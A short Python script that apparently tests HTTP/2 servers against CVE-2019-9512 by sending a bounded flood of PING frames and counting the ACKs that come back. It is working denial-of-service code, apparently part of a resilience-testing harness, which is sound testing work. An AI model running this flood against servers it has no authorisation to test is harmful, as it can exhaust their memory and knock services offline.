#!/usr/bin/python3
"""ping_flood: CVE-2019-9512. PING frames as fast as the socket takes them, bounded by
--pings and --seconds; then listens 2 s. A server that queues an ACK per PING without
limit grows; nghttp2 stops at max_outbound_ack with a GOAWAY.

  ping_flood.py --port N (--ca FILE | --plaintext) [--pings 200000] [--seconds 5]
"""
import time

from h2wire import Connection, PingFrame, main, parse_args


def run():
    args = parse_args(__doc__, lambda p: p.add_argument("--pings", type=int, default=200_000))
    conn = Connection(args)
    deadline = time.monotonic() + args.seconds
    sent = 0
    while sent < args.pings:
        n = min(1000, args.pings - sent)
        batch = b"".join(PingFrame(0, opaque_data=(sent + i).to_bytes(8, "big")).serialize() for i in range(n))
        sent += n
        if not conn.send(batch, deadline):
            break
    conn.pump(time.monotonic() + 2)
    conn.report("ping_flood", pings=sent, ping_acks=conn.account.ping_acks)
    conn.close()


if __name__ == "__main__":
    main(run)
